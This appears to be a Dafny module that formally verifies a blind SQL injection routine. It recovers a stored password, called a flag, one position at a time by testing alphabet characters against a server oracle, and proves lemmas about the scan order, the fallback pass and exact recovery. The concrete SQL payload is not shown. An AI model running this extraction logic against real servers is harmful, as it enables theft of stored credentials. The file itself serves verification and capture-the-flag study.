/**
 * Recovery of the stored password one position at a time: a primary scan
 * over a fixed alphabet, a fallback scan over the punctuation, and the
 * placeholder `'?'` when both come up empty.
 */
module Extraction {
  import opened Wrappers
  import opened Text
  import opened Oracle

  /** Python's `string.ascii_lowercase`. */
  const Lowercase: string := "abcdefghijklmnopqrstuvwxyz"
  /** Python's `string.ascii_uppercase`. */
  const Uppercase: string := "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
  /** Python's `string.ascii_letters`. */
  const Letters: string := Lowercase + Uppercase
  /** Python's `string.digits`. */
  const Digits: string := "0123456789"
  const Punctuation: string := "{}_-!@#$%^&*()[]|:;<>,.?/~`+="
  /** The primary candidates, in the order they are tried. */
  const Alphabet: string := Letters + Digits + Punctuation
  /** The fallback candidates, in the order they are tried. */
  const Fallback: seq<char> := ['{', '}', '_', '-', '!', '@', '#', '$', '%', '^', '&', '*', '(', ')',
                                '[', ']', '|', ':', ';', '<', '>', ',', '.', '?', '/', '~', '`', '+', '=']
  /** Recorded for a position no candidate matched. */
  const Placeholder: char := '?'

  /** The fallback list is the tail of the primary alphabet, in the same order. */
  lemma FallbackIsAlphabetTail()
    ensures |Alphabet| == 91
    ensures Fallback == Alphabet[62..]
    ensures forall c :: c in Fallback ==> c in Alphabet
  {
    assert Alphabet[62..] == Punctuation;
  }

  /** No primary candidate is a single quote, and the placeholder is itself a candidate. */
  lemma AlphabetFacts()
    ensures '\'' !in Alphabet
    ensures Placeholder in Alphabet
  {
    NoQuoteIn(Lowercase);
    NoQuoteIn(Uppercase);
    NoQuoteIn(Digits);
    NoQuoteIn(Punctuation);
    assert Alphabet[85] == Placeholder;
  }

  lemma NoQuoteIn(s: string)
    requires s == Lowercase || s == Uppercase || s == Digits || s == Punctuation
    ensures '\'' !in s
  {
  }

  /** Escaping leaves every primary candidate unchanged. */
  lemma EscapeIsIdentityOnAlphabet(c: char)
    requires c in Alphabet
    ensures Escape([c]) == [c]
  {
    AlphabetFacts();
  }

  /** Index of the first element of `s` that passes `test`, if any. */
  function FirstHit(s: seq<char>, test: char -> bool): (r: Option<nat>)
    ensures r.Some? ==> r.value < |s|
    decreases |s|
  {
    if s == [] then None
    else if test(s[0]) then Some(0)
    else match FirstHit(s[1..], test)
      case None => None
      case Some(k) => Some(k + 1)
  }

  /**
   * `FirstHit` finds the least passing index, and finds nothing exactly
   * when no element passes.
   */
  lemma {:induction false} FirstHitSpec(s: seq<char>, test: char -> bool)
    ensures var r := FirstHit(s, test);
      && (r.Some? ==> r.value < |s| && test(s[r.value]))
      && (r.Some? ==> forall m :: 0 <= m < r.value ==> !test(s[m]))
      && (r.None? <==> forall m :: 0 <= m < |s| ==> !test(s[m]))
    decreases |s|
  {
    if s != [] {
      FirstHitSpec(s[1..], test);
      if !test(s[0]) {
        forall m | 1 <= m < |s| ensures s[m] == s[1..][m - 1] { }
      }
    }
  }

  /** A hit with no hit before it is the first hit. */
  lemma FirstHitAt(s: seq<char>, test: char -> bool, i: nat)
    requires i < |s| && test(s[i])
    requires forall m :: 0 <= m < i ==> !test(s[m])
    ensures FirstHit(s, test) == Some(i)
  {
    FirstHitSpec(s, test);
  }

  /**
   * The SQL literal a candidate is written as: escaped in the primary pass,
   * as it is in the fallback pass.
   */
  function Literal(c: char, escaped: bool): (r: string)
    ensures escaped && c == '\'' ==> r == "''"
    ensures !escaped || c != '\'' ==> r == [c]
  {
    EscapeChar(c);
    if escaped then Escape([c]) else [c]
  }

  /** The server's verdict on "the character at `position` is `c`". */
  predicate Hit(server: Server, position: nat, c: char, escaped: bool)
  {
    Verdict(server, CharPayload(position, Literal(c, escaped)))
  }

  function HitTest(server: Server, position: nat, escaped: bool): char -> bool
  {
    c => Hit(server, position, c, escaped)
  }

  /** The first of `candidates` the server confirms at `position`, if any. */
  function FirstConfirmed(server: Server, position: nat, candidates: seq<char>, escaped: bool): Option<char>
  {
    match FirstHit(candidates, HitTest(server, position, escaped))
    case Some(i) => Some(candidates[i])
    case None => None
  }

  /**
   * The character recorded for `position`: the first primary candidate the
   * server confirms, else the first confirmed fallback candidate, else the
   * placeholder.
   */
  function ResolvedChar(server: Server, position: nat): (c: char)
    ensures c != '\''
  {
    FallbackIsAlphabetTail();
    AlphabetFacts();
    match FirstConfirmed(server, position, Alphabet, true)
    case Some(c) => c
    case None =>
      match FirstConfirmed(server, position, Fallback, false)
      case Some(c) => c
      case None => Placeholder
  }

  /** The recorded character is the placeholder or a candidate the server confirmed, in one pass or the other. */
  lemma ResolvedIsConfirmed(server: Server, position: nat)
    ensures var c := ResolvedChar(server, position);
      c == Placeholder || Hit(server, position, c, true) || Hit(server, position, c, false)
  {
    FirstHitSpec(Alphabet, HitTest(server, position, true));
    FirstHitSpec(Fallback, HitTest(server, position, false));
  }

  /** Every recorded character is a primary candidate, the placeholder included. */
  lemma ResolvedIsCandidate(server: Server, position: nat)
    ensures ResolvedChar(server, position) in Alphabet
  {
    FallbackIsAlphabetTail();
    AlphabetFacts();
  }

  /** The string recorded for positions 1..n. */
  function Recovered(server: Server, n: int): (flag: string)
    ensures |flag| == if n < 0 then 0 else n
    ensures forall i :: 0 <= i < |flag| ==> flag[i] == ResolvedChar(server, i + 1)
    decreases n
  {
    if n <= 0 then [] else Recovered(server, n - 1) + [ResolvedChar(server, n)]
  }

  /** For positions 1..n, whether the fallback pass runs there: exactly when the primary pass finds nothing. */
  function FallbackRuns(server: Server, n: int): (used: seq<bool>)
    ensures |used| == if n < 0 then 0 else n
    ensures forall i :: 0 <= i < |used| ==> (used[i] <==> FirstConfirmed(server, i + 1, Alphabet, true).None?)
    decreases n
  {
    if n <= 0 then [] else FallbackRuns(server, n - 1) + [FirstConfirmed(server, n, Alphabet, true).None?]
  }

  /**
   * One pass over `candidates` at `position`, in order, stopping at the first
   * true verdict; the candidate is escaped first when `escaped` holds.
   * `tried` lists the candidates queried, in the order the requests were sent.
   */
  method ScanCandidates(server: Server, position: nat, candidates: seq<char>, escaped: bool)
    returns (found: Option<char>, tried: seq<char>)
    ensures found.Some? ==> found.value in candidates && Hit(server, position, found.value, escaped)
    ensures found.None? <==> forall k :: 0 <= k < |candidates| ==> !Hit(server, position, candidates[k], escaped)
    ensures found == FirstConfirmed(server, position, candidates, escaped)
    ensures |tried| == match FirstHit(candidates, HitTest(server, position, escaped))
                       case Some(i) => i + 1
                       case None => |candidates|
    ensures tried == candidates[..|tried|]
  {
    tried := [];
    var i := 0;
    while i < |candidates|
      invariant 0 <= i <= |candidates|
      invariant forall m :: 0 <= m < i ==> !Hit(server, position, candidates[m], escaped)
      invariant tried == candidates[..i]
    {
      var c := candidates[i];
      var literal := Literal(c, escaped);
      assert candidates[..i + 1] == candidates[..i] + [c];
      tried := tried + [c];
      var response := server(Form(CharPayload(position, literal), ProbePassword));
      if ConditionTrue(response) {
        FirstHitAt(candidates, HitTest(server, position, escaped), i);
        return Some(c), tried;
      }
      i := i + 1;
    }
    FirstHitSpec(candidates, HitTest(server, position, escaped));
    return None, tried;
  }

  /**
   * Builds the password left to right, one character per position 1..length:
   * a primary match, a fallback match, or the placeholder. `fallbackUsed`
   * records, position by position, whether the fallback pass was run.
   */
  method ExtractFlag(server: Server, length: int) returns (flag: string, fallbackUsed: seq<bool>)
    ensures |flag| == if length < 0 then 0 else length
    ensures flag == Recovered(server, length)
    ensures fallbackUsed == FallbackRuns(server, length)
  {
    flag := "";
    fallbackUsed := [];
    var chars := Alphabet;
    var position := 1;
    while position <= length
      invariant 1 <= position <= (if length < 0 then 0 else length) + 1
      invariant flag == Recovered(server, position - 1)
      invariant fallbackUsed == FallbackRuns(server, position - 1)
    {
      var found, tried := ScanCandidates(server, position, chars, true);
      fallbackUsed := fallbackUsed + [found.None?];
      if found.None? {
        found, tried := ScanCandidates(server, position, Fallback, false);
      }
      if found.Some? {
        flag := flag + [found.value];
      } else {
        flag := flag + [Placeholder];
      }
      position := position + 1;
    }
  }

  /**
   * The fallback pass is redundant: each fallback candidate is a primary
   * candidate whose fallback query is the very same payload, so the
   * fallback finds nothing where the primary pass found nothing.
   */
  lemma FallbackRedundant(server: Server, position: nat)
    ensures forall k :: 0 <= k < |Fallback| ==>
      Fallback[k] == Alphabet[62 + k] &&
      CharPayload(position, Literal(Fallback[k], false)) == CharPayload(position, Literal(Fallback[k], true))
    ensures FirstConfirmed(server, position, Alphabet, true) == None ==>
      FirstConfirmed(server, position, Fallback, false) == None
  {
    FallbackIsAlphabetTail();
    FirstHitSpec(Alphabet, HitTest(server, position, true));
    FirstHitSpec(Fallback, HitTest(server, position, false));
    forall k | 0 <= k < |Fallback|
      ensures Literal(Fallback[k], false) == Literal(Fallback[k], true)
      ensures HitTest(server, position, false)(Fallback[k]) == HitTest(server, position, true)(Alphabet[62 + k])
    {
      EscapeIsIdentityOnAlphabet(Alphabet[62 + k]);
    }
  }

  /**
   * What a position records, with the fallback out of the picture: the
   * first confirmed primary candidate, or the placeholder when there is none.
   */
  lemma ResolvedIsFirstPrimaryHit(server: Server, position: nat)
    ensures (forall k :: 0 <= k < |Alphabet| ==> !Hit(server, position, Alphabet[k], true)) ==>
      ResolvedChar(server, position) == Placeholder
    ensures forall k :: 0 <= k < |Alphabet| && Hit(server, position, Alphabet[k], true) &&
                        (forall m :: 0 <= m < k ==> !Hit(server, position, Alphabet[m], true)) ==>
                          ResolvedChar(server, position) == Alphabet[k]
  {
    FallbackRedundant(server, position);
    FirstHitSpec(Alphabet, HitTest(server, position, true));
    forall k | 0 <= k < |Alphabet| && Hit(server, position, Alphabet[k], true) &&
               (forall m :: 0 <= m < k ==> !Hit(server, position, Alphabet[m], true))
      ensures ResolvedChar(server, position) == Alphabet[k]
    {
      FirstHitAt(Alphabet, HitTest(server, position, true), k);
    }
  }

  /** A position at which the server confirms no alphabet character is recorded as the placeholder. */
  lemma SilentPositionGivesPlaceholder(server: Server, length: int, i: nat)
    requires i < length
    requires forall k :: 0 <= k < |Alphabet| ==> !Hit(server, i + 1, Alphabet[k], true)
    ensures Recovered(server, length)[i] == Placeholder
  {
    ResolvedIsFirstPrimaryHit(server, i + 1);
  }

  /**
   * A server that evaluates the character comparison truthfully for the
   * stored `password`: the SQL literal, read back with doubled quotes
   * collapsed, must be the one character at the 1-based position.
   */
  ghost predicate ExactCharServer(server: Server, password: string)
  {
    forall position: nat, literal: string ::
      Verdict(server, CharPayload(position, literal)) <==>
        1 <= position <= |password| && Unescape(literal) == [password[position - 1]]
  }

  /** Under a truthful server each position records the stored character, if it is a candidate. */
  lemma ResolvedUnderExactServer(server: Server, password: string, i: nat)
    requires ExactCharServer(server, password)
    requires i < |password| && password[i] in Alphabet
    ensures ResolvedChar(server, i + 1) == password[i]
  {
    var test := HitTest(server, i + 1, true);
    forall c ensures test(c) <==> c == password[i] {
      UnescapeEscape([c]);
    }
    var k :| 0 <= k < |Alphabet| && Alphabet[k] == password[i];
    FirstHitSpec(Alphabet, test);
    assert test(Alphabet[k]);
  }

  /** Under a truthful server a stored character outside the alphabet is recorded as the placeholder. */
  lemma UnknownCharacterUnderExactServer(server: Server, password: string, i: nat)
    requires ExactCharServer(server, password)
    requires i < |password| && password[i] !in Alphabet
    ensures ResolvedChar(server, i + 1) == Placeholder
  {
    forall k | 0 <= k < |Alphabet| ensures !Hit(server, i + 1, Alphabet[k], true) {
      UnescapeEscape([Alphabet[k]]);
    }
    ResolvedIsFirstPrimaryHit(server, i + 1);
  }

  /** Round trip: a truthful server over an alphabet-only password yields that password exactly. */
  lemma {:induction false} ExactServerRecovers(server: Server, password: string)
    requires ExactCharServer(server, password)
    requires forall i :: 0 <= i < |password| ==> password[i] in Alphabet
    ensures Recovered(server, |password|) == password
  {
    var flag := Recovered(server, |password|);
    forall i | 0 <= i < |password| ensures flag[i] == password[i] {
      ResolvedUnderExactServer(server, password, i);
    }
  }
}
